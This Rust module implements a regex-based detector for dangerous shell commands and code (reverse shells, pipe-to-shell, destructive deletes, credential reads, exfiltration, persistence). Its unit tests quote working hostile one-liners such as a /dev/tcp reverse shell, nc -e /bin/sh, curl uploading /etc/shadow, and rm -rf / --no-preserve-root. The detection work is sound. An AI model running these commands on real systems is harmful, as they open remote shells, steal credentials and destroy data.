//! Dangerous code and shell commands. Destructive operations are judged by their *target*
//! (`rm -rf /` vs `rm -rf ./build`), network tools by what they do (`nc -e /bin/sh` vs
//! `nc -zv localhost 5432`), decoders by where their output goes (`base64 -d | sh` vs
//! `base64 -d file`).

use crate::engine::{Next, Rule, Table, class, set_back};
use crate::types::{BuildError, DetectorKind, Finding, Severity};

const IP: &str = r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}";

fn rules() -> Vec<Rule> {
    let mut v = base_rules();
    set_back(
        &mut v,
        "code.command_injection.separator",
        &[";", "&", "|", "`", "\n", "\\n", "$(", "%0a"],
        class::none,
        0,
    );
    v
}

fn base_rules() -> Vec<Rule> {
    use Severity::{Critical, High};
    let r = crate::engine::rule;
    let _ = IP;
    vec![
        r(
            "reverse_shell",
            "code.reverse_shell.dev_tcp",
            r"/dev/(?:tcp|udp)/[A-Za-z0-9.\-]+/\d+",
            0.95,
            Critical,
        ),
        r(
            "reverse_shell",
            "code.reverse_shell.netcat_exec",
            r"\b(?:nc|ncat|netcat|nc\.traditional|busybox nc)\b[^\n|;]{0,80}?[ \t](?:-[A-Za-z]*[ec][ \t]*|--exec[ \t=]+|--sh-exec[ \t=]+)[\x22']?(?:/bin/|/usr/bin/)?(?:ba|z|k|da|c)?sh\b|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}?[ \t]-[A-Za-z]*e[ \t]+(?:cmd(?:\.exe)?|powershell)",
            0.95,
            Critical,
        ),
        r(
            "reverse_shell",
            "code.reverse_shell.fifo",
            r"\bmkfifo\b[^\n]{0,80}?\b(?:nc|ncat|netcat|telnet|openssl s_client)\b|\bmknod\b[^\n]{0,40}\bp\b[^\n]{0,80}?\b(?:nc|telnet)\b",
            0.9,
            Critical,
        ),
        r(
            "reverse_shell",
            "code.reverse_shell.socat",
            r"\bsocat\b[^\n]{0,120}?\b(?:exec|system):[^\n]{0,40}?(?:sh|bash|cmd|powershell)\b",
            0.9,
            Critical,
        ),
        r(
            "reverse_shell",
            "code.reverse_shell.scripted",
            r"(?s)\bsocket\.socket\(.{0,400}?\.connect\(.{0,400}?(?:os\.dup2|pty\.spawn|subprocess\.(?:call|Popen|run)\(\[?[\x22'](?:/bin/)?(?:ba)?sh)|\bfsockopen\([^\n]{0,200}?(?:exec|shell_exec|system|passthru|proc_open)\b|\bTCPClient\([^\n]{0,300}?(?:GetStream|iex|Invoke-Expression)|\bIO::Socket::INET\b[^\n]{0,300}?\bexec\b|\bTCPSocket\.(?:new|open)\([^\n]{0,200}?\b(?:exec|spawn|IO\.popen)\b",
            0.9,
            Critical,
        ),
        r(
            "remote_code_execution",
            "code.pipe_to_shell",
            r"\b(?:curl|wget|fetch|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|lwp-download|aria2c)\b[^\n|;]{0,200}?\|[ \t]*(?:sudo[ \t]+(?:-\S+[ \t]+)*)?(?:ba|z|k|da|fi)?sh\b|\b(?:curl|wget)\b[^\n|;]{0,200}?\|[ \t]*(?:sudo[ \t]+)?(?:python[0-9.]*|perl|ruby|node|php)\b(?:[ \t]+-)?[ \t]*(?:$|[;&|)\x22'])",
            0.9,
            Critical,
        ),
        r(
            "remote_code_execution",
            "code.shell_subst_fetch",
            r"(?:\b(?:ba|z)?sh[ \t]+(?:-c[ \t]+)?[\x22']?\$\(|\b(?:ba|z)?sh[ \t]+<\()[ \t]*(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,40}?(?:DownloadString|DownloadFile|Invoke-WebRequest|iwr|irm|Net\.WebClient)|(?:DownloadString|Invoke-WebRequest|iwr|irm)\b[^\n]{0,200}?\|[ \t]*(?:iex|Invoke-Expression)\b",
            0.9,
            Critical,
        ),
        r(
            "remote_code_execution",
            "code.download_exec",
            r"(?s)\b(?:urlretrieve|wget\.download|requests\.get|urlopen|urllib\.request\.urlopen|httpx\.get|aiohttp)\b.{0,600}?(?:\bexec\(|\beval\(|\bpickle\.loads?\(|\bmarshal\.loads\(|\bsubprocess\.(?:call|run|Popen|check_output)\([^)]{0,120}?[\x22'](?:python[0-9.]*|bash|sh|nohup|chmod)\b|\bos\.system\([^)]{0,120}?(?:python|bash|sh|chmod|\./))",
            0.85,
            Critical,
        ),
        r(
            "remote_code_execution",
            "code.exec_remote_pickle",
            r"\bpickle\.loads?\([ \t]*(?:response|resp|r|res|requests\.get|urlopen|urllib)\b",
            0.85,
            High,
        ),
        r(
            "obfuscated_execution",
            "code.obfuscated.base64_exec",
            r"\bbase64[ \t]+(?:-d|--decode|-D)\b[^\n|;]{0,80}?\|[ \t]*(?:sudo[ \t]+)?(?:ba|z|k|da)?sh\b|\b(?:echo|printf)[ \t]+[\x22']?[A-Za-z0-9+/=]{16,}[\x22']?[ \t]*\|[ \t]*base64[ \t]+(?:-d|--decode|-D)\b[^\n]{0,40}?\|[ \t]*(?:ba|z)?sh\b|\beval[ \t]*\([ \t]*(?:base64_decode|atob|gzinflate|str_rot13|gzuncompress)\b|\bexec\([ \t]*(?:base64\.b64decode|codecs\.decode|zlib\.decompress|bytes\.fromhex|__import__\([\x22']base64)|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}?[ \t]-(?:e|en|enc|enco|encodedcommand|ec)[ \t]+[A-Za-z0-9+/=]{20,}|\beval[ \t]+[\x22']?\$\((?:echo|printf)[^\n]{0,200}?base64",
            0.9,
            Critical,
        ),
        r(
            "destructive_fs",
            "code.destructive.rm",
            r"\brm[ \t]+(?:-[A-Za-z]+[ \t]+|--[a-z\-]+[ \t]+)+(?P<v>[^\s;&|]+)",
            0.9,
            Critical,
        ),
        r(
            "destructive_fs",
            "code.destructive.windows",
            r"(?i)\b(?:rd|rmdir)[ \t]+/s[ \t]+(?:/q[ \t]+)?[a-z]:\\(?:windows|users|\s|$)|\bdel[ \t]+(?:/[fsq][ \t]+)+[a-z]:\\(?:\*|windows|\s|$)|\bformat[ \t]+[a-z]:(?:\s|$|/)|\bRemove-Item\b[^\n]{0,60}?-Recurse[^\n]{0,60}?(?:[A-Za-z]:\\(?:\s|$|\*|Windows)|\$env:SystemRoot)|\bvssadmin[ \t]+delete[ \t]+shadows\b|\bwmic[ \t]+shadowcopy[ \t]+delete\b|\bbcdedit\b[^\n]{0,40}recoveryenabled[ \t]+no",
            0.9,
            Critical,
        ),
        r(
            "destructive_disk",
            "code.destructive.disk",
            r"\bdd\b[^\n]{0,80}?\bof=/dev/(?:sd[a-z]|nvme\d|hd[a-z]|xvd[a-z]|vd[a-z]|disk\d|mmcblk\d|mapper/)|\bmkfs(?:\.[a-z0-9]+)?[ \t]+(?:-[A-Za-z]+[ \t]+)*/dev/(?:sd|nvme|hd|xvd|vd|disk|mmcblk)|>[ \t]*/dev/(?:sd[a-z]|nvme\d|hd[a-z])\b|\b(?:shred|wipefs)\b[^\n]{0,40}?/dev/(?:sd|nvme|hd|xvd|vd|disk)|:\(\)[ \t]*\{[ \t]*:[ \t]*\|[ \t]*:[ \t]*&[ \t]*\}[ \t]*;[ \t]*:|\bchmod[ \t]+-R[ \t]+(?:777|000|a-rwx)[ \t]+/(?:\s|$|etc|usr|bin|var)|\bchown[ \t]+-R[ \t]+\S+[ \t]+/(?:\s|$)|\bmv[ \t]+(?:/|/\*|~|~/\*)[ \t]+/dev/null\b",
            0.9,
            Critical,
        ),
        r(
            "destructive_db",
            "code.destructive.database",
            r"(?i)\bdrop[ \t]+(?:database|schema)\b|\bdrop[ \t]+table[ \t]+(?:if[ \t]+exists[ \t]+)?[A-Za-z0-9_.`\x22\[\]]+[ \t]*(?:;|--|$|cascade)|\btruncate[ \t]+table\b|\bdelete[ \t]+from[ \t]+[A-Za-z0-9_.`\x22\[\]]+[ \t]*(?:;|$)|\bdb\.dropDatabase\(\)|\bFLUSHALL\b|\bdb\.[A-Za-z0-9_]+\.drop\(\)",
            0.75,
            High,
        ),
        r(
            "destructive_fs",
            "code.destructive.python",
            r#"\b(?:shutil\.rmtree|os\.removedirs|os\.rmdir|os\.remove|os\.unlink|Path\([^)]*\)\.unlink)\([ \t]*[rbf]?["'](?:/|/(?:etc|bin|sbin|usr|lib|lib64|boot|var|root|home|sys|proc|dev)(?:/[^"']*)?|~|~/|C:\\\\?(?:Windows)?[^"']*)["']"#,
            0.85,
            Critical,
        ),
        r(
            "credential_access",
            "code.credential_access.files",
            r"(?:/etc/shadow|/etc/gshadow|/etc/sudoers|/etc/master\.passwd|~?/\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts)|/root/\.ssh|\.aws/credentials|\.git-credentials|\.docker/config\.json|\.kube/config|\.netrc|\.pgpass|\.bash_history|/proc/(?:self|\d+)/environ|Login Data|Cookies\.sqlite|logins\.json|key4\.db|\\config\\SAM\b|%SYSTEMROOT%\\repair\\SAM|%SYSTEMROOT%\\repair\\SYSTEM|\\repair\\SAM|NTDS\.dit|wp-config\.php)",
            0.75,
            High,
        ),
        r(
            "credential_access",
            "code.credential_access.etc_passwd",
            r"\b(?:cat|less|more|head|tail|type|cp|scp|curl|nl|tac|strings|base64|xxd|od|grep|awk|sed)\b[^\n;|&]{0,40}?/etc/(?:passwd|group|hosts|issue|hostname)\b|(?:\.\./){2,}(?:etc/passwd|windows/win\.ini)",
            0.75,
            High,
        ),
        r(
            "credential_access",
            "code.credential_access.tools",
            r"(?i)\b(?:mimikatz|sekurlsa|lsadump|procdump[^\n]{0,40}lsass|comsvcs\.dll[^\n]{0,40}minidump|reg(?:\.exe)?[ \t]+save[ \t]+hklm\\(?:sam|system|security)|security[ \t]+(?:find|dump)-(?:generic|internet)-password|secretsdump|laZagne|hashdump|keychain_dumper|Get-Clipboard|pbpaste|xsel[ \t]+(?:-b|--clipboard)|xclip[ \t]+-o|pyperclip\.paste|pynput\.keyboard|GetAsyncKeyState|ImageGrab\.grab)\b",
            0.7,
            High,
        ),
        r(
            "exfiltration",
            "code.exfiltration.paste_host",
            r"(?i)\b(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin|transfer\.sh|ngrok\.io|ngrok-free\.app|ngrok\.app|webhook\.site|requestbin\.|pipedream\.net|burpcollaborator\.net|oastify\.com|interact\.sh|\.oast\.[a-z]+|trycloudflare\.com|serveo\.net|localtunnel\.me|loca\.lt|file\.io|0x0\.st|anonfiles|discord(?:app)?\.com/api/webhooks|hooks\.slack\.com/services|api\.telegram\.org/bot)",
            0.6,
            High,
        ),
        r(
            "exfiltration",
            "code.exfiltration.upload",
            r"\b(?:curl|wget)\b[^\n]{0,120}?(?:[ \t](?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|--post-file)[ \t=]+[\x22']?[A-Za-z_]*=?@?[^\s]{0,80}?(?:\.ssh|/etc/|\.env|credentials|id_rsa|\.aws|passwd|shadow|\$\(|`|history|\.pem|\.key|/home/|/root/|/tmp/|/path/to/)|https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[^\n]{0,80}?[ \t](?:-d|--data|-F|-T|--upload-file))|\|[ \t]*(?:nc|ncat|netcat)[ \t]+\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[ \t]+\d+|\brequests\.post\([^\n]{0,200}?(?:clipboard|keystroke|password|cookies|credentials|files=\{|data=(?:data|file|clipboard|content|f\.read))",
            0.8,
            High,
        ),
        r(
            "persistence",
            "code.persistence",
            r"(?i)(?:>>?[ \t]*(?:/etc/crontab|/var/spool/cron|/etc/cron\.d/|~/\.bashrc|~/\.bash_profile|~/\.profile|~/\.zshrc|/etc/profile|/etc/rc\.local|/etc/init\.d/|~/\.ssh/authorized_keys|/root/\.ssh/authorized_keys|\.config/autostart)|\bcrontab[ \t]+-l\b[^\n]{0,80}?\|[ \t]*crontab[ \t]+-|\bschtasks(?:\.exe)?[ \t]+/create\b|\breg(?:\.exe)?[ \t]+add[^\n]{0,80}?\\(?:CurrentVersion\\Run|Winlogon)|\bNew-ItemProperty\b[^\n]{0,80}?CurrentVersion\\Run|\bsc(?:\.exe)?[ \t]+create\b[^\n]{0,80}?binpath)",
            0.75,
            High,
        ),
        r(
            "privilege_escalation",
            "code.privilege_escalation",
            r"(?:>>?[ \t]*/etc/(?:sudoers|passwd|shadow)\b|\bNOPASSWD:[ \t]*ALL\b|\bchmod[ \t]+(?:[ugoa]*\+s|[4267][0-7]{3})[ \t]+(?:/bin/|/usr/bin/|/usr/local/bin/)?(?:ba|da|z)?sh\b|\bchmod[ \t]+u\+s\b|\busermod[ \t]+-a?G[ \t]+(?:sudo|wheel|root|admin|docker)\b|\bsetcap[ \t]+cap_setuid|\bnet[ \t]+localgroup[ \t]+administrators[ \t]+\S+[ \t]+/add\b|\bnet[ \t]+user[ \t]+\S+[ \t]+\S+[ \t]+/add\b|\bdocker[ \t]+run\b[^\n]{0,80}?(?:-v[ \t]+/:/|--privileged[^\n]{0,40}?(?:chroot|nsenter)|--pid[ =]host[^\n]{0,40}nsenter)|\bnsenter[ \t]+(?:-t[ \t]+1|--target[ \t]+1)\b)",
            0.8,
            High,
        ),
        r(
            "denial_of_service",
            "code.dos.flood_loop",
            r"(?s)\bwhile[ \t]+(?:True|1|true)[ \t]*:.{0,240}?(?:\bos\.fork\(|\brequests\.(?:get|post)\(|\.connect\(|\bsend\(|\bsubprocess\.\w+\(|\bos\.system\(|\.append\(|\.Tk\(|\bcreate_\w+\(|\bthreading\.Thread\()|\bos\.fork\(\)[^\n]{0,40}\bos\.fork\(\)",
            0.75,
            High,
        ),
        r(
            "exfiltration",
            "code.exfiltration.collect_and_post",
            r"(?s)(?:\bopen\([^)\n]{0,120}?[\x22']rb?[\x22']|\bpsutil\.\w+|\bsubprocess\.check_output\(|\bgeocoder\.|\busb\.core|\bsounddevice|\bgetpass\.|\bImageGrab|\bImage\.open\(|cookies?\.(?:txt|pkl|sqlite)|\bCookieJar\b).{0,500}?(?:\brequests\.post\(|\.storbinary\(|\.sendall\(|\bsock\.send\(|\bhttp\.client\.HTTPS?Connection\(|\bsmtplib\.)",
            0.7,
            High,
        ),
        r(
            "persistence",
            "code.persistence.file_tamper",
            r"\bopen\([ \t]*(?:[rbf]?[\x22'](?:/etc/hosts|/etc/passwd|/etc/crontab|/etc/sudoers|[^\x22'\n]{0,60}authorized_keys)[\x22']|auth_file|hosts_file)[ \t]*,[ \t]*[\x22'][aw]\+?[\x22']|\bos\.path\.join\([^)\n]{0,60}[\x22']authorized_keys[\x22']",
            0.75,
            High,
        ),
        r(
            "ransomware",
            "code.ransomware.encrypt_files",
            r"(?s)\b(?:Fernet|AES\.new|Cipher\()\b?.{0,600}?(?:\bos\.walk\(|\.encrypt\([^)\n]{0,80}\)[^\n]{0,80}\bwrite\(|\bwith[ \t]+open\([^)\n]{0,120}[\x22']wb[\x22'])",
            0.75,
            High,
        ),
        r(
            "system_tamper",
            "code.system_tamper",
            r"\bpsutil\.Process\([^)\n]{0,40}\)\.(?:terminate|kill)\(|\bWin32_NetworkAdapterConfiguration\b[^\n]{0,120}|\.Disable\(\)|\bsystemctl[ \t]+(?:stop|disable|mask)[ \t]+\S|\b(?:xmrig|cpuminer|minerd|cryptomine\w*|coinhive)\b|\bminer_url\b",
            0.7,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.separator",
            r"(?:^|[;&|`\n]|\$\(|%0[aA]|\\n)[ \t]*(?:id|whoami|uname(?:[ \t]+-[a-z]+)?|hostname|ifconfig|ipconfig(?:[ \t]+/all)?|systeminfo|net[ \t]+(?:user|view|localgroup|config|share)|dir[ \t]+[a-zA-Z]:|type[ \t]+(?:%|[a-zA-Z]:)|cat[ \t]+/etc/|ls[ \t]+-[a-z]+[ \t]+/|sleep[ \t]+\d+|ping[ \t]+-[nc][ \t]*\d+|timeout[ \t]+/t|nslookup[ \t]|wget[ \t]|curl[ \t]|nc[ \t]|/bin/(?:ba)?sh|cmd(?:\.exe)?[ \t]+/c|powershell|echo[ \t]+\$\w+|pwd)(?:$|[ \t;&|`)\n]|\\n|%0[aA])",
            0.6,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.shellshock",
            r"\(\)[ \t]*\{[ \t]*:?;?[ \t]*\}[ \t]*;|\$\{(?:IFS|PATH:0:1)\}|\{\$\{(?:sleep|system|exec)\(",
            0.85,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.exec_call",
            r#"\b(?:exec|system|passthru|shell_exec|popen|proc_open|eval)\([ \t]*['"](?:id|whoami|uname|pwd|ls|cat|sleep|ping|nc|curl|wget|bash|sh|cmd|dir|net)\b"#,
            0.7,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.os_system",
            r#"\b(?:os\.system|os\.popen|subprocess\.(?:call|run|Popen|check_output))\([^\n)]{0,200}?(?:ipconfig[\x22', ]+/release|shutdown|reboot|halt|poweroff|format|kill[ \t]+-9[ \t]+-1|killall|pkill|iptables[ \t]+-F|ufw[ \t]+disable|setenforce[ \t]+0|crontab|useradd|passwd|history[ \t]+-c)"#,
            0.75,
            High,
        ),
    ]
}

/// Whether an `rm -r` target is a broad or system location (vs a scoped build dir).
fn rm_target_dangerous(flags_and_target: &str, target: &str) -> bool {
    let recursive = flags_and_target.split_whitespace().skip(1).any(|f| {
        f.starts_with('-') && !f.starts_with("--") && f.contains(['r', 'R'])
            || f == "--recursive"
            || f == "--no-preserve-root"
    });
    if !recursive {
        return false;
    }
    let t = target.trim_matches(['"', '\'']);
    if matches!(
        t,
        "/" | "/*"
            | "~"
            | "~/"
            | "~/*"
            | "*"
            | "."
            | ".."
            | "./*"
            | "../*"
            | "$HOME"
            | "${HOME}"
            | "$HOME/*"
            | "/home"
            | "/root"
            | "--no-preserve-root"
            | "C:\\"
            | "c:\\"
    ) {
        return true;
    }
    if let Some(rest) = t.strip_prefix('/') {
        let first = rest.split('/').next().unwrap_or("");
        let depth = rest
            .trim_end_matches(['/', '*'])
            .split('/')
            .filter(|s| !s.is_empty())
            .count();
        let system = matches!(
            first,
            "etc"
                | "usr"
                | "bin"
                | "sbin"
                | "boot"
                | "lib"
                | "lib64"
                | "var"
                | "root"
                | "home"
                | "sys"
                | "proc"
                | "dev"
                | "opt"
                | "srv"
                | "System"
                | "Library"
                | "Users"
                | "Applications"
        );
        return system && depth <= 2 && first != "tmp";
    }
    false
}

/// Compiled dangerous-code detector.
pub(crate) struct Code {
    pub(crate) table: Table,
}

impl Code {
    pub fn new() -> Result<Code, BuildError> {
        Ok(Code {
            table: Table::new(DetectorKind::Code, rules())?,
        })
    }

    #[cfg(test)]
    pub fn tables(&self) -> Vec<&Table> {
        vec![&self.table]
    }

    pub fn scan(&self, text: &str, cands: &mut [Vec<(u32, u16)>], out: &mut Vec<Finding>) {
        self.table.each_overlapping(text, &mut cands[0], |h| {
            let r = &self.table.rules[h.idx];
            let (mut start, end) = (h.start, h.end);
            if r.rule == "code.destructive.rm" {
                // the span covers the whole command; validate the target
                let line_start = text[..h.start].rfind("rm").unwrap_or(h.start);
                if !rm_target_dangerous(&text[line_start..h.end], &text[h.start..h.end]) {
                    return Next::Skip;
                }
                start = line_start;
            }
            out.push(Finding {
                detector: DetectorKind::Code,
                kind: r.kind,
                rule: r.rule,
                start,
                end,
                score: r.score,
                severity: r.severity,
            });
            Next::Accept
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn code_det() -> &'static Code {
        static D: std::sync::OnceLock<Code> = std::sync::OnceLock::new();
        D.get_or_init(|| Code::new().unwrap())
    }

    fn rules_fired(text: &str) -> Vec<&'static str> {
        let d = code_det();
        let mut out = Vec::new();
        let mut c = crate::engine::test_cands(&d.tables(), text);
        d.scan(text, &mut c, &mut out);
        out.iter().map(|f| f.rule).collect()
    }

    #[test]
    fn positives() {
        let cases: &[(&str, &str)] = &[
            (
                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                "code.reverse_shell.dev_tcp",
            ),
            (
                "nc -e /bin/sh 10.0.0.1 4242",
                "code.reverse_shell.netcat_exec",
            ),
            (
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
                "code.reverse_shell.fifo",
            ),
            (
                "curl -fsSL https://get.example.sh | sudo bash",
                "code.pipe_to_shell",
            ),
            (
                "echo ZWNobyBoaQ== | base64 -d | sh",
                "code.obfuscated.base64_exec",
            ),
            ("rm -rf / --no-preserve-root", "code.destructive.rm"),
            ("sudo rm -rf /etc", "code.destructive.rm"),
            ("rm -rf ~", "code.destructive.rm"),
            ("dd if=/dev/zero of=/dev/sda bs=1M", "code.destructive.disk"),
            ("DROP DATABASE production;", "code.destructive.database"),
            ("cat ~/.ssh/id_rsa", "code.credential_access.files"),
            ("; cat /etc/passwd", "code.credential_access.etc_passwd"),
            (
                "curl -F file=@/etc/shadow https://x.example",
                "code.exfiltration.upload",
            ),
            (
                "curl -d @secrets.txt https://webhook.site/abc",
                "code.exfiltration.paste_host",
            ),
            (
                "echo '* * * * * /tmp/x' >> /etc/crontab",
                "code.persistence",
            ),
            (
                "echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
                "code.privilege_escalation",
            ),
            ("; whoami", "code.command_injection.separator"),
            ("`id`", "code.command_injection.separator"),
            (
                "os.remove(\"/lib/x86_64-linux-gnu/libc.so.6\")",
                "code.destructive.python",
            ),
            (
                "import os\nwhile True:\n    os.fork()",
                "code.dos.flood_loop",
            ),
            (
                "with open(\"/home/u/.ssh/id_rsa\", \"rb\") as f:\n    requests.post(url, data=f)",
                "code.exfiltration.collect_and_post",
            ),
            (
                "with open(\"/etc/hosts\", \"a\") as f:",
                "code.persistence.file_tamper",
            ),
            (
                "f = Fernet(key)\nfor root, d, files in os.walk(p):",
                "code.ransomware.encrypt_files",
            ),
            ("psutil.Process(conn.pid).terminate()", "code.system_tamper"),
        ];
        let mut bad = Vec::new();
        for (text, rule) in cases {
            let got = rules_fired(text);
            if !got.contains(rule) {
                bad.push(format!("{text:?}: want {rule}, got {got:?}"));
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    #[test]
    fn scoped_ordinary_operations_are_not_findings() {
        let cases: &[&str] = &[
            "rm -rf ./build",
            "rm -rf build/ dist/",
            "rm -rf /tmp/cache",
            "rm file.txt",
            "nc -zv localhost 5432",
            "base64 -d file",
            "base64 --decode input.b64 > out.bin",
            "curl -O https://example.com/file.tar.gz",
            "ls -la",
            "DELETE FROM users WHERE id = 4;",
            "ppmcie -red|green|blue xpos ypos",
            "git rm -r --cached node_modules",
            "chmod +x script.sh",
            "while True:\n    line = input()\n    print(line)",
            "with open(\"notes.txt\", \"r\") as f:\n    print(f.read())",
            "with open(\"/etc/hosts\") as f:",
            "systemctl status nginx",
        ];
        let bad: Vec<String> = cases
            .iter()
            .filter(|t| !rules_fired(t).is_empty())
            .map(|t| format!("{t:?}: {:?}", rules_fired(t)))
            .collect();
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }
}
